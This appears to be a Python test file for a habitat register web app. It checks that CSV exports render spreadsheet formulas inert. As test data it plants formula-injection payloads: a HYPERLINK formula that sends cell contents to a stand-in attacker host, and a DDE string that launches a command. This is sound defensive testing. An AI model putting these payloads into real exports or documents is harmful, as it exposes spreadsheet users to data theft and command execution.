"""What an attacker sends the open data and the pages: text that a spreadsheet would run as a formula,
numbers too large for the database, characters a header or a database cannot hold. Every answer is
a 400 (problem+json under /api, an error page elsewhere) or an inert file, never a 500."""

from __future__ import annotations

import csv
import io

from flask.testing import FlaskClient
from sqlalchemy import text

from tests.db.fixtures import Register

FORMULAS = ("=", "+", "-", "@", "\t", "\r")


def _cells(client: FlaskClient, path: str) -> list[str]:
    response = client.get(path)
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True), newline="")))
    return [c for row in rows[1:] for c in row]


def test_csv_cells_never_start_a_formula(client: FlaskClient, register: Register) -> None:
    """A site name ``=HYPERLINK(…)`` and a planning reference ``=1+1`` reach every CSV as text."""
    from bng.register.allocations import Development, Request

    world, s = register.world, register.services
    assert world is not None
    hostile = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    with register.database.engine.begin() as conn:
        conn.execute(
            text("UPDATE gain_site SET name = :name WHERE reference = :ref"), {"name": hostile, "ref": world.site}
        )
        conn.execute(text("UPDATE habitat_parcel SET ref = '@SUM(' || ref || ')' WHERE stage = 'creation'"))
    hedge = next(p for p in s.register.site(world.site).parcels if p.module == "hedgerow" and p.stage == "creation")
    assert hedge.id is not None
    for i, (reference, name) in enumerate((("=1+1", "+cmd|' /C calc'!A0"), ("-2+3", "@SUM(A1:A9)"))):
        s.allocations.allocate(
            world.actors["landowner"],
            world.site,
            Development(world.lpa_ids["Cambridge LPA"], reference, name, "546000, 259000"),
            [Request(hedge.id, 10_000 * (i + 1))],
        )
    seen = []
    for path in ("/api/v1/sites.csv", "/api/v1/parcels.csv", "/api/v1/allocations.csv"):
        cells = _cells(client, path)
        numbers = {c for c in cells if c.lstrip("-").replace(".", "", 1).replace("e-", "", 1).isdigit()}
        assert [c for c in cells if c.startswith(FORMULAS) and c not in numbers] == [], path
        seen += cells
    # the text is all there, only made inert: an apostrophe a spreadsheet shows as text
    for value in (hostile, "@SUM(1)", "=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"):
        assert "'" + value in seen
    # negative numbers stay numbers (no site has one, so a cell of ours proves the rule)
    from bng.web.api.formats import cell

    assert cell(-2.5) == -2.5 and cell("-2.5") == "'-2.5" and cell("\r=1") == "'\r=1" and cell(None) == ""
